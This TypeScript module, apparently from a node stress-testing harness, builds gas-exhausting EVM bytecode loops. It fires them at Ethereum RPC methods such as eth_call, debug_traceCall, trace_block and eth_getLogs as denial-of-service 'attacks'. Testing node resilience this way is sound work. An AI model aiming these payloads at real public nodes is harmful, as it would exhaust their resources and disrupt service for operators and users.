/** Lists contracts of ordinary instructions that use up the gas of a block: called, mined and traced. */
import { fromHex, toHex } from "@tandem/primitives";
import type { Part } from "../assemble.js";
import { type Attack, requesting } from "./attack.js";
import { almostEndless, endless } from "./program.js";
import { many } from "./scenes.js";

const contract = "0x00000000000000000000000000000000000c0de2";
const gas = 30_000_000;
const hex = (n: number) => `0x${n.toString(16)}`;
const megabyte = 1024 * 1024;
/** A new slot or address each time. */
const another: readonly Part[] = ["GAS"];
/** Writes a word at the end of memory of this size, whose expansion is paid once. */
const reaching = (bytes: number): Part[] => [1, bytes - 32, "MSTORE"];

interface Case {
  readonly name: string;
  readonly code: () => Uint8Array;
  /** Far more gas than a block has, so that the time limit of a call ends it. */
  readonly callGas?: number;
}

const cases: readonly Case[] = [
  { name: "ADD", code: () => endless([1, 2, "ADD", "POP"]) },
  {
    name: "EXP of large words",
    code: () => endless([new Uint8Array(32).fill(255), new Uint8Array(32).fill(254), "EXP", "POP"]),
  },
  { name: "cold SLOAD", code: () => almostEndless([...another, "SLOAD", "POP"]) },
  { name: "SSTORE", code: () => almostEndless([1, ...another, "SSTORE"]) },
  { name: "TSTORE", code: () => almostEndless([1, ...another, "TSTORE"]) },
  {
    name: "CALL of new addresses",
    code: () => almostEndless([0, 0, 0, 0, 0, ...another, 0, "CALL", "POP"]),
  },
  {
    name: "CALL with a megabyte of input",
    code: () => almostEndless([0, 0, megabyte, 0, 0, 5, 0, "CALL", "POP"]),
  },
  {
    // Its traces take almost the maximum number of stored bytes for the gas of a block.
    name: "CALL with 128 bytes of input",
    code: () => almostEndless([0, 0, 128, 0, 0, 5, 0, "CALL", "POP"]),
  },
  {
    name: "CALL of itself to the deepest",
    code: () => endless([0, 0, 0, 0, 0, fromHex(contract), "GAS", "CALL", "POP"]),
  },
  { name: "CREATE of nothing", code: () => almostEndless([0, 0, 0, "CREATE", "POP"]) },
  {
    name: "CREATE with 48 KB of JUMPDEST",
    code: () =>
      almostEndless(
        [49_152, 0, 0, "CREATE", "POP"],
        [new Uint8Array(32).fill(0x5b), 0, "MSTORE", 49_120, 0, 32, "MCOPY"],
      ),
  },
  { name: "KECCAK256 of a megabyte", code: () => almostEndless([megabyte, 0, "KECCAK256", "POP"]) },
  { name: "KECCAK256 of a word", code: () => almostEndless([32, 0, "KECCAK256", "POP"]) },
  { name: "MCOPY of a megabyte", code: () => almostEndless([megabyte, 1, 0, "MCOPY"]) },
  {
    name: "EXTCODECOPY of a megabyte",
    code: () => almostEndless([megabyte, 0, 0, fromHex(contract), "EXTCODECOPY"]),
  },
  { name: "CODECOPY of a megabyte", code: () => almostEndless([megabyte, 0, 0, "CODECOPY"]) },
  {
    name: "EXTCODEHASH of new addresses",
    code: () => almostEndless([...another, "EXTCODEHASH", "POP"]),
  },
  { name: "BLOCKHASH", code: () => almostEndless([0, "BLOCKHASH", "POP"]) },
  { name: "LOG0 of nothing", code: () => almostEndless([0, 0, "LOG0"]) },
  { name: "LOG0 of 96 KB", code: () => almostEndless([98_304, 0, "LOG0"]) },
  { name: "LOG1 of a word", code: () => almostEndless([7, 32, 0, "LOG1"]) },
  {
    name: "MSTORE8 at 3.5 MB",
    code: () => almostEndless([1, 1, "ADD", "POP"], reaching(3_500_000)),
  },
];

/** Cases with enough gas to hold the event loop for tenths of a second if it is not divided. */
const smallCases: readonly Case[] = [
  ["EXP of large words", 6_000_000],
  ["CREATE with 48 KB of JUMPDEST", 10_000_000],
  ["KECCAK256 of a megabyte", 15_000_000],
].flatMap(([name, callGas]) =>
  cases
    .filter((one) => one.name === name)
    .map((one) => ({ ...one, name: `${name}, ${callGas} gas`, callGas: Number(callGas) })),
);

const overriding = (code: Uint8Array) => ({ [contract]: { code: toHex(code) } });

const called = ({ name, code, callGas = gas }: Case): Attack =>
  requesting(`eth_call: ${name}`, "eth_call", () => [
    { to: contract, gas: hex(callGas) },
    "latest",
    overriding(code()),
  ]);

const mined = ({ name, code }: Case): Attack => ({
  name: `in a block: ${name}`,
  async prepare(target) {
    const bytes = code();
    await target.call("hardhat_setCode", [contract, toHex(bytes)]);
    const raw = target.sign(0, { to: fromHex(contract), gasLimit: await target.blockGas() });
    const params = [raw];
    const body = JSON.stringify({
      jsonrpc: "2.0",
      id: 1,
      method: "eth_sendRawTransaction",
      params,
    });
    return async () => {
      const told = await target.post(body);
      await target.blockOf(raw);
      return told;
    };
  },
});

/** Declares a request for a mined loop. */
const askedAbout = (
  name: string,
  method: string,
  params: (hash: string, blockHash: string) => readonly unknown[],
) =>
  cases
    .filter((one) => /CALL of new|LOG0 of|deepest|SSTORE|of input|^ADD/.test(one.name))
    .map(
      (one): Attack => ({
        name: `${name} of a block: ${one.name}`,
        async prepare(target) {
          await target.call("hardhat_setCode", [contract, toHex(one.code())]);
          const raw = target.sign(0, { to: fromHex(contract), gasLimit: await target.blockGas() });
          const hash = await target.call<string>("eth_sendRawTransaction", [raw]);
          const blockHash = await target.blockOf(raw);
          const body = JSON.stringify({
            jsonrpc: "2.0",
            id: 1,
            method,
            params: params(hash, blockHash),
          });
          return () => target.post(body);
        },
      }),
    );

const tracers = [
  ["callTracer", { tracer: "callTracer", tracerConfig: { withLog: true } }],
  ["prestateTracer", { tracer: "prestateTracer" }],
  ["prestateTracer, difference", { tracer: "prestateTracer", tracerConfig: { diffMode: true } }],
  ["struct logs", {}],
  ["struct logs with memory", { enableMemory: true, enableReturnData: true }],
] as const;

const traced: readonly Attack[] = tracers.flatMap(([name, options]) =>
  cases
    .filter((one) =>
      /CALL of new|LOG0|deepest|SSTORE|SLOAD|megabyte of input|^ADD|HASH/.test(one.name),
    )
    .flatMap((one) =>
      [gas, 15_000_000, 1_000_000].map((callGas) =>
        requesting(
          `debug_traceCall, ${name}, ${callGas} gas: ${one.name}`,
          "debug_traceCall",
          () => [
            { to: contract, gas: hex(callGas) },
            "latest",
            { ...options, stateOverrides: overriding(one.code()) },
          ],
        ),
      ),
    ),
);

const asked: readonly Attack[] = ["eth_estimateGas", "eth_createAccessList"].flatMap((method) =>
  cases
    .filter(({ name }) => /SLOAD|SSTORE|^ADD|CALL of new|MCOPY/.test(name))
    .map(({ name, code }) =>
      requesting(`${method}: ${name}`, method, () => [
        { to: contract },
        "latest",
        overriding(code()),
      ]),
    ),
);

export const loopAttacks: readonly Attack[] = [
  ...cases.map(called),
  ...smallCases.map(called),
  ...cases.map(mined),
  ...asked,
  ...traced,
  ...askedAbout("trace_transaction", "trace_transaction", (hash) => [hash]),
  ...askedAbout("trace_block", "trace_block", () => ["latest"]),
  ...askedAbout("trace_filter", "trace_filter", () => [{ fromBlock: "0x0", toBlock: "latest" }]),
  ...askedAbout("trace_get", "trace_get", (hash) => [hash, many(700).map(() => 0)]),
  ...askedAbout("anvil_rollback", "anvil_rollback", () => [1]),
  ...askedAbout("debug_traceTransaction", "debug_traceTransaction", (hash) => [
    hash,
    { tracer: "callTracer" },
  ]),
  ...askedAbout("receipt", "eth_getTransactionReceipt", (hash) => [hash]),
  ...askedAbout("receipts", "eth_getBlockReceipts", () => ["latest"]),
  ...askedAbout("raw receipts", "debug_getRawReceipts", () => ["latest"]),
  ...askedAbout("receipt nodes", "native_getTransactionReceiptNodesByHash", (hash, blockHash) => [
    blockHash,
    hash,
  ]),
  ...askedAbout("eth_getLogs", "eth_getLogs", () => [{ fromBlock: "0x0", toBlock: "latest" }]),
];
